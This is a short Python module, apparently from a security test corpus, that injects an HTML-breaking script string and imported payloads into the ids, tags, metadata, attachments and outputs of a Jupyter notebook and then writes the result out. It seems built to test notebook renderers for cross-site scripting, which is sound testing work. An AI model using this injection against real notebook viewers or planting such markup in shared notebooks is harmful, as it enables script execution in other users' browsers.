"""Puts markup into ids, tags, names and every other field of cells and notebook."""

from hostile.corpus import Attack
from hostile.payloads import ALL, RUN

BREAKS = f'"><script>{RUN}</script><x y="'


def marked(notebook):
    widgets = {"version_major": 2, "state": {"x": {"state": {"value": ALL}}}}
    notebook.metadata |= {
        "title": ALL,
        "authors": [{"name": ALL}],
        "kernelspec": {"name": BREAKS, "display_name": ALL, "language": BREAKS},
        "language_info": {"name": "html", "pygments_lexer": "html"},
        "widgets": {"application/vnd.jupyter.widget-state+json": widgets},
        "nbconvert": {"template": BREAKS},
    }
    for cell in notebook.cells:
        cell.metadata |= {"tags": [BREAKS], "alt": BREAKS, "name": BREAKS}
        cell.metadata["magics_language"] = "html"
        if "nbgrader" in cell.metadata:
            comment = {"comment": ALL, "score": BREAKS, "max_score": BREAKS}
            cell.metadata["nbgrader"] |= comment
        cell["attachments"] = {BREAKS: {"text/html": ALL}}
        cell["id"] = BREAKS
        if cell.cell_type == "code":
            cell["execution_count"] = ALL
            data = {"text/html": ALL, "application/javascript": RUN}
            shown = {"output_type": "display_data", "metadata": {}, "data": data}
            cell["outputs"] = [shown]


def write(folder, notebook):
    import json

    (folder / f"{folder.name}.ipynb").write_text(json.dumps(notebook))


attack = Attack(starts="right", changes=marked, writes=write)
